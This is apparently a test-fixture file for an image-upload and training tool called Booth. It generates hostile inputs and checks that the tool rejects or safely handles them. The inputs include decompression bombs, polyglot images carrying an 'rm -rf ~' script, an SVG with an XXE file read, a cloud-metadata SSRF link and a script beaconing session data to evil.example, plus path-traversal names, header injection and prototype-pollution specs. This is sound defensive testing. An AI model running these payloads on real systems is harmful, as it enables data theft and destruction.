/**
 * The hostile-input corpus, generated at test time (no binaries in the repository): broken and
 * malicious images built from sharp-made base images with Buffer surgery, hostile file names,
 * bad job specs, and malicious safetensors headers. Each entry says what Booth must do with it:
 * accept it (with the handling checked by the test) or reject it with a message matching `reason`.
 */
import net from 'node:net';
import path from 'node:path';
import { deflateSync, crc32 } from 'node:zlib';
import sharp from 'sharp';
import type { SessionStore } from '../../src/sessions/store.js';
import { blockNoise, noiseImage } from '../helpers/images.js';

/** What Booth must do with one input. */
export type Expected = { outcome: 'accepted' } | { outcome: 'rejected'; reason: RegExp };

/** One hostile or odd photo upload. */
export interface ImageCase {
  /** Stable id, used in the doc table and failure messages. */
  id: string;
  /** File name as uploaded. */
  name: string;
  bytes: Buffer;
  expect: Expected;
  /** For accepted cases: what intake must have recorded (upright size, format). */
  accepted?: { width?: number; height?: number; format?: string; warning?: RegExp };
}

const rejected = (reason: RegExp): Expected => ({ outcome: 'rejected', reason });
const accepted: Expected = { outcome: 'accepted' };

/** A PNG chunk: length, type, data, CRC-32 over type and data. */
export function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function ihdr(width: number, height: number, bitDepth: number, colourType: number): Buffer {
  const d = Buffer.alloc(13);
  d.writeUInt32BE(width, 0);
  d.writeUInt32BE(height, 4);
  d[8] = bitDepth;
  d[9] = colourType;
  return pngChunk('IHDR', d);
}

/**
 * A complete, valid 1-bit greyscale PNG of `width × height` all-black pixels: a few tens of KB
 * on disk, `width × height × 3` bytes once decoded to RGB (the classic decompression bomb).
 */
export function pngBomb(width: number, height: number): Buffer {
  const row = 1 + Math.ceil(width / 8);
  const raw = Buffer.alloc(row * height); // filter byte 0 and zero bits on every row
  return Buffer.concat([PNG_SIGNATURE, ihdr(width, height, 1, 0), pngChunk('IDAT', deflateSync(raw, { level: 9 })), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A PNG whose header declares `width × height` but whose data holds a single row. */
export function pngDeclaring(width: number, height: number): Buffer {
  const raw = Buffer.alloc(1 + Math.ceil(width / 8));
  return Buffer.concat([PNG_SIGNATURE, ihdr(width, height, 1, 0), pngChunk('IDAT', deflateSync(raw)), pngChunk('IEND', Buffer.alloc(0))]);
}

/** Insert chunks into a PNG right after IHDR (8-byte signature + 25-byte IHDR chunk). */
export function pngWithChunks(png: Buffer, chunks: Buffer[]): Buffer {
  return Buffer.concat([png.subarray(0, 33), ...chunks, png.subarray(33)]);
}

/** Insert APPn segments into a JPEG right after SOI, each payload at most 65533 bytes. */
export function jpegWithSegments(jpeg: Buffer, segments: Array<{ marker: number; payload: Buffer }>): Buffer {
  const parts = segments.map(({ marker, payload }) => {
    const head = Buffer.from([0xff, marker, 0, 0]);
    head.writeUInt16BE(payload.length + 2, 2);
    return Buffer.concat([head, payload]);
  });
  return Buffer.concat([jpeg.subarray(0, 2), ...parts, jpeg.subarray(2)]);
}

/** Rewrite the frame size in a baseline JPEG's SOF0 segment. */
export function jpegDeclaring(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  const at = out.indexOf(Buffer.from([0xff, 0xc0]));
  if (at < 0) throw new Error('no SOF0 marker in the base JPEG');
  out.writeUInt16BE(height, at + 5);
  out.writeUInt16BE(width, at + 7);
  return out;
}

/** Offset of the first image descriptor (0x2C) of a GIF: after the global colour table and any extension blocks. */
export function gifFirstFrame(gif: Buffer): number {
  const flags = gif[10] ?? 0;
  let at = 13 + (flags & 0x80 ? 3 * 2 ** ((flags & 7) + 1) : 0);
  while (gif[at] === 0x21) {
    at += 2; // introducer and label, then sub-blocks until a zero length
    while ((gif[at] ?? 0) !== 0) at += (gif[at] ?? 0) + 1;
    at += 1;
  }
  if (gif[at] !== 0x2c) throw new Error(`no image descriptor at byte ${at} of the base GIF`);
  return at;
}

/** Deterministic pseudo-random bytes (xorshift32), so failures reproduce. */
export function noiseBytes(length: number, seed: number): Buffer {
  const out = Buffer.alloc(length);
  let s = seed >>> 0 || 1;
  for (let i = 0; i < length; i++) {
    s ^= s << 13;
    s ^= s >>> 17;
    s ^= s << 5;
    out[i] = s & 0xff;
  }
  return out;
}

/** A minimal ZIP archive (one stored file) — appended to images to make polyglots. */
export function zipArchive(name: string, content: Buffer): Buffer {
  const fileName = Buffer.from(name);
  const crc = crc32(content) >>> 0;
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + fileName.length, 12);
  end.writeUInt32LE(30 + fileName.length + content.length, 16);
  return Buffer.concat([local, fileName, content, central, fileName, end]);
}

/** A valid photo of a given size and seed (noise, so every seed is a different file). */
export async function photo(width: number, height: number, seed: number, format: 'jpeg' | 'png' | 'webp' = 'jpeg'): Promise<Buffer> {
  if (format !== 'webp') return noiseImage(width, height, seed, format);
  const data = blockNoise(width, height, seed, (v) => [v & 0xff, (v >> 8) & 0xff, (v >> 16) & 0xff]);
  return sharp(data, { raw: { width, height, channels: 3 } }).webp({ quality: 80 }).toBuffer();
}

const SVG_HOSTILE =
  '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' +
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="512" height="512">' +
  '<image xlink:href="http://169.254.169.254/latest/meta-data/" width="512" height="512"/><text>&xxe;</text>' +
  '<script>fetch("/api/sessions").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script></svg>\n';

/**
 * The image corpus: every case is a separate upload with its own bytes (distinct seeds, so no
 * two accepted cases are duplicates of each other).
 */
export async function imageCases(): Promise<ImageCase[]> {
  const jpeg = await photo(320, 320, 1);
  const png = await photo(320, 320, 2, 'png');
  const webp = await photo(320, 320, 3, 'webp');
  const html = Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n');
  const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), noiseBytes(4096, 7)]);
  const heic = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic\0\0\0\0mif1heic'), noiseBytes(2048, 8)]);
  const xmp = Buffer.concat([Buffer.from('http://ns.adobe.com/xap/1.0/\0'), Buffer.from(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${'A'.repeat(65_000)}`.slice(0, 65_000))]);
  const iccChunks = 40;
  const gifFrames = await Promise.all([photo(300, 300, 20, 'png'), photo(300, 300, 21, 'png')]);
  const truncatedMiddle = Buffer.from(await photo(320, 320, 22));
  // Overwrite part of the entropy-coded data with bytes that are not markers: still a "JPEG".
  noiseBytes(400, 9).copy(truncatedMiddle, Math.floor(truncatedMiddle.length / 2));
  for (let i = Math.floor(truncatedMiddle.length / 2); i < Math.floor(truncatedMiddle.length / 2) + 400; i++) if (truncatedMiddle[i] === 0xff) truncatedMiddle[i] = 0xfe;
  const badCrc = Buffer.from(await photo(320, 320, 23, 'png'));
  badCrc.writeUInt32BE(0xdeadbeef, badCrc.indexOf('IDAT') + 4 + badCrc.readUInt32BE(badCrc.indexOf('IDAT') - 4));

  // A GIF whose screen and first frame claim 65535×65535, and a WebP whose VP8X canvas claims 16383×16383.
  const gifBomb = Buffer.from(await sharp(await photo(320, 320, 24, 'png')).gif().toBuffer());
  for (const at of [6, 8, gifFirstFrame(gifBomb) + 5, gifFirstFrame(gifBomb) + 7]) gifBomb.writeUInt16LE(65_535, at);
  const vp8x = Buffer.alloc(18);
  vp8x.write('VP8X', 0, 'latin1');
  vp8x.writeUInt32LE(10, 4);
  vp8x.writeUIntLE(16_383 - 1, 12, 3);
  vp8x.writeUIntLE(16_383 - 1, 15, 3);
  const webpBody = Buffer.concat([Buffer.from('WEBP'), vp8x, (await photo(320, 320, 25, 'webp')).subarray(12)]);
  const riff = Buffer.alloc(8);
  riff.write('RIFF', 0, 'latin1');
  riff.writeUInt32LE(webpBody.length, 4);

  const cases: ImageCase[] = [
    { id: 'gif-declares-65535x65535', name: 'bomb.gif', bytes: gifBomb, expect: rejected(/65535×65535 pixels .* over the limit/) },
    { id: 'webp-vp8x-declares-16383x16383', name: 'bomb.webp', bytes: Buffer.concat([riff, webpBody]), expect: rejected(/over the limit|header cannot be read/) },
    { id: 'truncated-jpeg', name: 'truncated.jpg', bytes: (await photo(320, 320, 30)).subarray(0, 3000), expect: rejected(/truncated or corrupt/) },
    { id: 'truncated-png', name: 'truncated.png', bytes: png.subarray(0, Math.floor(png.length / 2)), expect: rejected(/truncated or corrupt|damaged/) },
    { id: 'truncated-webp', name: 'truncated.webp', bytes: webp.subarray(0, Math.floor(webp.length / 2)), expect: rejected(/truncated or corrupt|damaged/) },
    { id: 'jpeg-header-only', name: 'header-only.jpg', bytes: jpeg.subarray(0, 200), expect: rejected(/truncated or corrupt|damaged/) },
    { id: 'jpeg-soi-eoi', name: 'soi-eoi.jpg', bytes: Buffer.from([0xff, 0xd8, 0xff, 0xd9]), expect: rejected(/damaged|truncated or corrupt/) },
    { id: 'jpeg-garbled-entropy', name: 'garbled.jpg', bytes: truncatedMiddle, expect: accepted, accepted: { width: 320, height: 320 } },
    // The pixel data is intact; only the checksum is wrong. Decoders (libspng, browsers) show it.
    { id: 'png-bad-crc', name: 'bad-crc.png', bytes: badCrc, expect: accepted, accepted: { width: 320, height: 320 } },
    { id: 'polyglot-jpeg-zip', name: 'polyglot-zip.jpg', bytes: Buffer.concat([await photo(320, 320, 31), zipArchive('payload.sh', Buffer.from('#!/bin/sh\nrm -rf ~\n'))]), expect: accepted, accepted: { format: 'jpeg' } },
    { id: 'polyglot-jpeg-html', name: 'polyglot-html.jpg', bytes: Buffer.concat([await photo(320, 320, 32), html]), expect: accepted, accepted: { format: 'jpeg' } },
    { id: 'polyglot-png-zip', name: 'polyglot.png', bytes: Buffer.concat([await photo(320, 320, 33, 'png'), zipArchive('evil.js', Buffer.from('alert(1)'))]), expect: accepted, accepted: { format: 'png' } },
    { id: 'html-named-jpg', name: 'download.jpg', bytes: html, expect: rejected(/HTML page/) },
    { id: 'png-declares-50000x50000', name: 'bomb-header.png', bytes: pngDeclaring(50_000, 50_000), expect: rejected(/50000×50000 pixels .* over the limit/) },
    { id: 'png-bomb-20000x20000', name: 'bomb.png', bytes: pngBomb(20_000, 20_000), expect: rejected(/20000×20000 pixels .* over the limit/) },
    { id: 'jpeg-declares-65000x65000', name: 'bomb.jpg', bytes: jpegDeclaring(await photo(320, 320, 34), 65_000, 65_000), expect: rejected(/65000×65000 pixels .* over the limit/) },
    { id: 'jpeg-huge-xmp-3mb', name: 'huge-xmp.jpg', bytes: jpegWithSegments(await photo(320, 320, 35), Array.from({ length: 48 }, () => ({ marker: 0xe1, payload: xmp }))), expect: accepted, accepted: { width: 320 } },
    {
      id: 'jpeg-huge-icc-2.6mb',
      name: 'huge-icc.jpg',
      bytes: jpegWithSegments(
        await photo(320, 320, 36),
        Array.from({ length: iccChunks }, (_, i) => ({ marker: 0xe2, payload: Buffer.concat([Buffer.from('ICC_PROFILE\0'), Buffer.from([i + 1, iccChunks]), noiseBytes(65_000, 100 + i)]) })),
      ),
      expect: accepted,
      accepted: { width: 320 },
    },
    {
      id: 'png-huge-itxt-xmp-4mb',
      name: 'huge-xmp.png',
      bytes: pngWithChunks(await photo(320, 320, 37, 'png'), [pngChunk('iTXt', Buffer.concat([Buffer.from('XML:com.adobe.xmp\0\0\0\0\0'), Buffer.alloc(4 * 2 ** 20, 0x41)]))]),
      expect: accepted,
      accepted: { width: 320 },
    },
    { id: 'png-huge-exif-4mb', name: 'huge-exif.png', bytes: pngWithChunks(await photo(320, 320, 38, 'png'), [pngChunk('eXIf', Buffer.concat([Buffer.from('MM\0*\0\0\0\x08'), noiseBytes(4 * 2 ** 20, 11)]))]), expect: accepted, accepted: { width: 320 } },
    {
      id: 'png-huge-iccp-garbage',
      name: 'huge-icc.png',
      bytes: pngWithChunks(await photo(320, 320, 39, 'png'), [pngChunk('iCCP', Buffer.concat([Buffer.from('evil\0\0'), deflateSync(noiseBytes(2 * 2 ** 20, 12))]))]),
      expect: accepted,
      accepted: { width: 320 },
    },
    { id: 'png-1x100000', name: 'thin.png', bytes: await sharp({ create: { width: 1, height: 100_000, channels: 3, background: '#808080' } }).png().toBuffer(), expect: rejected(/1×100000 pixels; the shorter side must be at least 256/) },
    { id: 'png-100000x1', name: 'flat.png', bytes: await sharp({ create: { width: 100_000, height: 1, channels: 3, background: '#808080' } }).png().toBuffer(), expect: rejected(/100000×1 pixels; the shorter side must be at least 256/) },
    { id: 'png-named-jpg', name: 'really-a-png.jpg', bytes: await photo(320, 320, 40, 'png'), expect: accepted, accepted: { format: 'png' } },
    { id: 'text-named-jpg', name: 'notes.jpg', bytes: Buffer.from('These are not the photos you are looking for.\n'.repeat(20)), expect: rejected(/not an image: it contains text/) },
    { id: 'svg-xxe-script-named-png', name: 'vector.png', bytes: Buffer.from(SVG_HOSTILE), expect: rejected(/SVG is a vector drawing/) },
    { id: 'zero-bytes', name: 'empty.jpg', bytes: Buffer.alloc(0), expect: rejected(/empty \(0 bytes\)/) },
    {
      id: 'gif-animated',
      name: 'animated.gif',
      bytes: await sharp(gifFrames, { join: { animated: true } }).gif().toBuffer(),
      expect: accepted,
      accepted: { width: 300, height: 300, format: 'gif', warning: /2 frames or pages; only the first is used/ },
    },
    { id: 'jpeg-cmyk', name: 'cmyk.jpg', bytes: await sharp(await photo(320, 320, 41)).toColourspace('cmyk').jpeg().toBuffer(), expect: accepted, accepted: { width: 320, height: 320, format: 'jpeg' } },
    { id: 'png-16bit', name: 'deep.png', bytes: await sharp(await photo(320, 320, 42, 'png')).toColourspace('rgb16').png().toBuffer(), expect: accepted, accepted: { width: 320, height: 320, format: 'png' } },
    { id: 'jpeg-exif-orientation-6', name: 'rotated.jpg', bytes: await sharp(await photo(400, 300, 43)).withMetadata({ orientation: 6 }).jpeg().toBuffer(), expect: accepted, accepted: { width: 300, height: 400 } },
    { id: 'elf-binary', name: 'program.jpg', bytes: elf, expect: rejected(/not an image in any format Booth reads/) },
    { id: 'random-bytes', name: 'noise.png', bytes: noiseBytes(10_000, 13), expect: rejected(/not an image in any format Booth reads/) },
    { id: 'heic-renamed', name: 'IMG_0001.jpg', bytes: heic, expect: rejected(/HEIC is not supported/) },
    { id: 'pdf-named-jpg', name: 'scan.jpg', bytes: Buffer.concat([Buffer.from('%PDF-1.7\n'), noiseBytes(2000, 14)]), expect: rejected(/PDF is a document/) },
    { id: 'tiny-16x16', name: 'tiny.jpg', bytes: await photo(16, 16, 44), expect: rejected(/16×16 pixels; the shorter side must be at least 256/) },
  ];
  return cases;
}

/** Hostile file names, each uploaded with a fresh valid photo; all must be accepted under a safe display name. */
export const HOSTILE_NAMES: ReadonlyArray<{ id: string; name: string }> = [
  { id: 'traversal', name: '../../../../tmp/booth-escape.jpg' },
  { id: 'traversal-backslash', name: '..\\..\\..\\booth-escape.jpg' },
  { id: 'absolute', name: '/etc/cron.d/booth-escape.jpg' },
  { id: 'nul-byte', name: 'safe.jpg\u0000../../booth-escape' },
  { id: 'rtl-override', name: 'photo\u202Egpj.exe' },
  { id: '1000-chars', name: `${'a'.repeat(996)}.jpg` },
  { id: 'slash-and-backslash', name: 'dir/sub\\name.jpg' },
  { id: 'empty', name: '' },
  { id: 'only-dots', name: '...' },
  { id: 'dot-dot', name: '..' },
  { id: 'windows-reserved', name: 'CON' },
  { id: 'windows-reserved-ext', name: 'NUL.jpg' },
  { id: 'nfc', name: 'caf\u00e9.jpg' },
  { id: 'nfd', name: 'cafe\u0301.jpg' },
  { id: 'newline-header-injection', name: 'a.jpg\r\nX-Evil: 1' },
];

/** A valid job spec to mutate (every required field, nothing else). */
export function validSpec(): Record<string, unknown> {
  return {
    version: 1,
    session: 'hostile',
    run: 'dry-run',
    base: { model: 'stable-diffusion-v1-5/stable-diffusion-v1-5', architecture: 'sd1' },
    mode: { type: 'full' },
    data: { instancePrompt: 'photo of ohwx man' },
    resolution: 512,
    schedule: { type: 'two-stage', textEncoder: { steps: 0, learningRate: 1e-6 }, unet: { steps: 100, learningRate: 2e-6 } },
    optimizer: { type: 'adamw' },
    lrScheduler: { type: 'constant' },
  };
}

/** JSON nested `depth` levels deep (`{"a":{"a":…}}`), as text: JSON.stringify itself would recurse. */
export function deepJson(depth: number): string {
  return `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

/** One hostile job spec: its JSON text and the field the error must name. */
export interface SpecCase {
  id: string;
  text: string;
  /** What the error message must contain (the field or the problem). */
  reason: RegExp;
}

function withSpec(mutate: (s: Record<string, unknown>) => void): string {
  const s = validSpec();
  mutate(s);
  return JSON.stringify(s);
}

function schedule(s: Record<string, unknown>): { unet: Record<string, unknown>; textEncoder: Record<string, unknown> } {
  return s.schedule as { unet: Record<string, unknown>; textEncoder: Record<string, unknown> };
}

/** Spec files for `booth train --spec` and bodies for `POST …/runs`. */
export function specCases(): SpecCase[] {
  return [
    { id: 'spec-malformed-json', text: '{"version": 1, "mode": {', reason: /JSON|Unexpected|Expected/ },
    { id: 'spec-empty-file', text: '', reason: /JSON|Unexpected end/ },
    { id: 'spec-not-object', text: '[1, 2, 3]', reason: /must be a JSON object|expected record|expected object/ },
    { id: 'spec-instance-dir-traversal', text: withSpec((s) => ((s.data as Record<string, unknown>).instanceDir = '../../../etc')), reason: /data\.instanceDir/ },
    { id: 'spec-unknown-field', text: withSpec((s) => (s.turbo = true)), reason: /turbo/ },
    { id: 'spec-negative-steps', text: withSpec((s) => (schedule(s).unet.steps = -100)), reason: /schedule\.unet\.steps/ },
    { id: 'spec-lr-1e9', text: withSpec((s) => (schedule(s).unet.learningRate = 1e9)), reason: /schedule\.unet\.learningRate/ },
    { id: 'spec-resolution-3', text: withSpec((s) => (s.resolution = 3)), reason: /resolution/ },
    { id: 'spec-batch-0', text: withSpec((s) => (s.batchSize = 0)), reason: /batchSize/ },
    { id: 'spec-nan-string', text: withSpec((s) => (schedule(s).unet.learningRate = 'NaN')), reason: /schedule\.unet\.learningRate/ },
    { id: 'spec-infinity-string', text: withSpec((s) => (schedule(s).unet.steps = 'Infinity')), reason: /schedule\.unet\.steps/ },
    // 1e400 is valid JSON syntax and parses to Infinity.
    { id: 'spec-overflow-number', text: JSON.stringify(validSpec()).replace(/}$/, ',"seed":1e400}'), reason: /seed/ },
    { id: 'spec-wrong-types', text: withSpec((s) => ((s.mode = 'full'), (s.resolution = '512'))), reason: /mode|resolution/ },
    { id: 'spec-deeply-nested', text: JSON.stringify(validSpec()).replace(/}$/, `,"extra":${deepJson(5000)}}`), reason: /extra/ },
    { id: 'spec-deep-known-field', text: JSON.stringify(validSpec()).replace('"mode":{"type":"full"}', `"mode":${deepJson(5000)}`), reason: /mode/ },
    { id: 'spec-huge-string', text: withSpec((s) => ((s.data as Record<string, unknown>).instancePrompt = 'x'.repeat(3 * 2 ** 20))), reason: /data\.instancePrompt/ },
    { id: 'spec-huge-unknown-key', text: JSON.stringify(validSpec()).replace(/}$/, `,"${'k'.repeat(3 * 2 ** 20)}":1}`), reason: /Unrecognized key/ },
    { id: 'spec-proto-pollution', text: JSON.stringify(validSpec()).replace(/}$/, ',"__proto__":{"polluted":true}}'), reason: /__proto__|polluted/ },
  ];
}

/** `--set` assignments (CLI) and `set` entries (REST) that must be refused, with what the error names. */
export const BAD_SETS: ReadonlyArray<{ id: string; set: string; reason: RegExp }> = [
  { id: 'set-negative-steps', set: 'schedule.unet.steps=-5', reason: /schedule\.unet\.steps/ },
  { id: 'set-lr-1e9', set: 'schedule.unet.learningRate=1e9', reason: /schedule\.unet\.learningRate/ },
  { id: 'set-nan', set: 'schedule.unet.learningRate=NaN', reason: /schedule\.unet\.learningRate/ },
  { id: 'set-resolution-3', set: 'resolution=3', reason: /resolution/ },
  { id: 'set-unknown-field', set: 'turbo=true', reason: /turbo/ },
  { id: 'set-no-equals', set: 'resolution', reason: /write field\.path=value/ },
  { id: 'set-proto', set: '__proto__.polluted=1', reason: /write field\.path=value/ },
  { id: 'set-constructor', set: 'constructor.prototype.polluted=1', reason: /constructor|not an object/ },
  { id: 'set-through-scalar', set: 'resolution.x=1', reason: /not an object/ },
];

/** A malicious safetensors file and what the reader must say about it. */
export interface SafetensorsCase {
  id: string;
  bytes: Buffer;
  reason: RegExp;
}

/** 8-byte little-endian length + header text + data. */
export function safetensors(header: string | Buffer, data: Buffer = Buffer.alloc(0), declared?: bigint): Buffer {
  const h = typeof header === 'string' ? Buffer.from(header) : header;
  const len = Buffer.alloc(8);
  len.writeBigUInt64LE(declared ?? BigInt(h.length), 0);
  return Buffer.concat([len, h, data]);
}

const tensor = (dtype: string, shape: unknown, offsets: unknown) => ({ dtype, shape, data_offsets: offsets });

/** The safetensors corpus (all must be refused with `INVALID_ARGUMENT` naming the rule). */
export function safetensorsCases(): SafetensorsCase[] {
  const ok = (t: Record<string, unknown>, data = 16) => safetensors(JSON.stringify(t), Buffer.alloc(data));
  return [
    { id: 'st-shorter-than-8', bytes: Buffer.from([1, 2, 3]), reason: /fewer than the 8-byte header length/ },
    { id: 'st-header-past-eof', bytes: safetensors('{}', Buffer.alloc(0), 4096n), reason: /claims 4096 bytes but the file has only 2/ },
    { id: 'st-header-2^63', bytes: safetensors('{}', Buffer.alloc(0), 2n ** 63n), reason: /over the 100000000-byte limit/ },
    { id: 'st-header-2^64-1', bytes: safetensors('{}', Buffer.alloc(0), 2n ** 64n - 1n), reason: /over the 100000000-byte limit/ },
    { id: 'st-header-100mb-declared', bytes: safetensors('{}', Buffer.alloc(0), 100n * 2n ** 20n), reason: /over the 100000000-byte limit/ },
    { id: 'st-header-not-json', bytes: safetensors('{this is not json', Buffer.alloc(0)), reason: /not UTF-8 JSON/ },
    { id: 'st-header-not-brace', bytes: safetensors('[{"a":1}]'), reason: /does not start with "\{"/ },
    { id: 'st-header-bad-utf8', bytes: safetensors(Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d])), reason: /not UTF-8 JSON/ },
    { id: 'st-offsets-overlap', bytes: ok({ a: tensor('F32', [2], [0, 8]), b: tensor('F32', [2], [4, 12]) }), reason: /overlaps/ },
    { id: 'st-offsets-out-of-bounds', bytes: ok({ a: tensor('F32', [1024], [0, 4096]) }), reason: /ends at byte .* but the file has/ },
    { id: 'st-offsets-negative', bytes: ok({ a: tensor('F32', [2], [-8, 0]) }), reason: /invalid data_offsets/ },
    { id: 'st-offsets-reversed', bytes: ok({ a: tensor('F32', [2], [8, 0]) }), reason: /invalid data_offsets/ },
    { id: 'st-offsets-float', bytes: ok({ a: tensor('F32', [2], [0.5, 8.5]) }), reason: /invalid data_offsets/ },
    { id: 'st-dtype-unknown', bytes: ok({ a: tensor('F128', [1], [0, 16]) }), reason: /unknown dtype "F128"/ },
    { id: 'st-shape-overflow', bytes: ok({ a: tensor('F32', [2 ** 31, 2 ** 31, 2 ** 31], [0, 16]) }), reason: /needs .* bytes but data_offsets span 16/ },
    { id: 'st-shape-negative', bytes: ok({ a: tensor('F32', [-4], [0, 16]) }), reason: /invalid shape/ },
    { id: 'st-shape-not-array', bytes: ok({ a: tensor('F32', '4', [0, 16]) }), reason: /invalid shape/ },
    { id: 'st-gap', bytes: ok({ a: tensor('F32', [2], [0, 8]), b: tensor('F32', [1], [12, 16]) }), reason: /gap of 4 bytes/ },
    { id: 'st-trailing-data', bytes: ok({ a: tensor('F32', [2], [0, 8]) }), reason: /trailing data/ },
    { id: 'st-metadata-not-strings', bytes: safetensors(JSON.stringify({ __metadata__: { a: { nested: true } } })), reason: /metadata "a" is not a string/ },
    { id: 'st-tensor-not-object', bytes: ok({ a: 42 }), reason: /tensor "a" is not an object/ },
    { id: 'st-deep-nesting', bytes: safetensors(`{"a":${deepJson(20_000)}}`), reason: /tensor "a" has the unknown dtype|invalid/ },
  ];
}

// ---- bookkeeping shared by the hostile-input tests ----------------------------------------

/** What happened to one input. `other` is a wrong but non-crashing outcome (e.g. accepted when it should be refused). */
export type Got = 'accepted' | 'rejected' | 'crashed' | 'other';

/** Counts inputs and outcomes for the `[reliability]` summary line, and keeps a row per input for the doc table. */
export class Tally {
  readonly rows: Array<{ input: string; path: string; expected: string; got: Got }> = [];

  /**
   * Record one input.
   * @returns a problem description when `got` is not `expected`, else null
   */
  judge(input: string, via: string, expected: 'accepted' | 'rejected', got: Got): string | null {
    this.rows.push({ input, path: via, expected, got });
    return got === expected ? null : `${input} via ${via}: expected ${expected}, got ${got}`;
  }

  /** Totals: every row is tried; crashed counts 5xx, dead processes and unexpected exceptions. */
  summary(): { tried: number; rejected: number; accepted: number; crashed: number } {
    const n = (g: Got) => this.rows.filter((r) => r.got === g).length;
    return { tried: this.rows.length, rejected: n('rejected'), accepted: n('accepted'), crashed: n('crashed') };
  }
}

/** Every file under `root`, as `/`-separated paths relative to it. */
export async function filesUnder(root: string): Promise<string[]> {
  const { readdir } = await import('node:fs/promises');
  const entries = await readdir(root, { recursive: true, withFileTypes: true });
  return entries.filter((e) => !e.isDirectory()).map((e) => path.relative(root, path.join(e.parentPath, e.name)).split(path.sep).join('/'));
}

/**
 * Put a session into the state `booth prepare` leaves it in (prepared, the first usable photo
 * accepted), so that spec validation, which only runs for prepared sessions, can be reached
 * without running face detection. Goes through the real manifest store and its schema.
 */
export async function markPrepared(sessions: SessionStore, name: string): Promise<void> {
  await sessions.update(name, (m) => {
    const usable = m.photos.find((p) => p.key !== null);
    if (!usable) throw new Error(`session ${name} has no usable photo to mark accepted`);
    usable.status = 'accepted';
    m.state = 'prepared';
    return m;
  });
}

/** What {@link rawHttp} saw: the status line's code (null when the server sent none) and the raw text. */
export interface RawResponse {
  status: number | null;
  text: string;
}

/**
 * Send raw bytes to a listening server and collect what comes back, for requests no HTTP client
 * would send (a Content-Length that lies, broken framing). `halfClose` ends the sending side
 * after the bytes, as a client that gave up would; the socket is destroyed after `waitMs`
 * whatever happens, so a server that keeps waiting for the promised bytes cannot hang the test.
 */
export function rawHttp(port: number, bytes: Buffer, options: { halfClose?: boolean; waitMs?: number } = {}): Promise<RawResponse> {
  return new Promise((resolve) => {
    const chunks: Buffer[] = [];
    const socket = net.connect({ host: '127.0.0.1', port });
    const done = () => {
      clearTimeout(timer);
      socket.destroy();
      const text = Buffer.concat(chunks).toString('latin1');
      const m = /^HTTP\/1\.1 (\d{3})/.exec(text);
      resolve({ status: m ? Number(m[1]) : null, text });
    };
    const timer = setTimeout(done, options.waitMs ?? 3000);
    socket.on('data', (c: Buffer) => chunks.push(c));
    socket.on('error', done);
    socket.on('close', done);
    socket.write(bytes, () => {
      if (options.halfClose) socket.end();
    });
  });
}

/** What one `booth` run did. */
export interface CliRun {
  code: number | null;
  stdout: string;
  stderr: string;
  timedOut: boolean;
  signal: string | null;
}

/**
 * Run `booth …args` from the built dist/cli/bin.js, as a person would, with `root/cwd` as the
 * working folder and `root/tmp` as TMPDIR (so anything written outside the store shows up
 * there). Never throws; a run over 60 s is killed and reported as `timedOut`.
 */
export async function cli(root: string, store: string, args: string[]): Promise<CliRun> {
  const { execa } = await import('execa');
  const { fileURLToPath } = await import('node:url');
  const bin = fileURLToPath(new URL('../../dist/cli/bin.js', import.meta.url));
  const r = await execa(process.execPath, [bin, ...args], {
    cwd: path.join(root, 'cwd'),
    env: { BOOTH_STORAGE: store, BOOTH_LOG_LEVEL: 'error', TMPDIR: path.join(root, 'tmp') },
    reject: false,
    stdin: 'ignore',
    timeout: 60_000,
  });
  return { code: r.exitCode ?? null, stdout: String(r.stdout), stderr: String(r.stderr), timedOut: Boolean(r.timedOut), signal: r.signal ?? null };
}

/**
 * Judge a run that must be refused: exit 1 (failure) or 2 (usage) with a message matching
 * `reason` and no stack trace. Exit 0 is a wrong outcome; anything else (a signal, a timeout,
 * another code, a stack trace) is a crash.
 * @returns a problem description, or null when the run was refused as it should be
 */
export function judgeCli(tally: Tally, id: string, r: CliRun, reason: RegExp): string | null {
  const refused = (r.code === 1 || r.code === 2) && !r.timedOut && !/\n\s+at .+:\d+:\d+/.test(r.stderr);
  const got = refused ? 'rejected' : r.code === 0 ? 'other' : 'crashed';
  const p = tally.judge(id, 'booth CLI', 'rejected', got);
  if (p) return `${p}: exit ${r.code} ${r.signal ?? ''} ${r.stderr.slice(0, 300)}`;
  if (r.stderr.length > 2000) return `${id}: the message is ${r.stderr.length} characters long`;
  return reason.test(r.stderr) ? null : `${id}: stderr ${JSON.stringify(r.stderr.slice(0, 300))} does not match ${String(reason)}`;
}
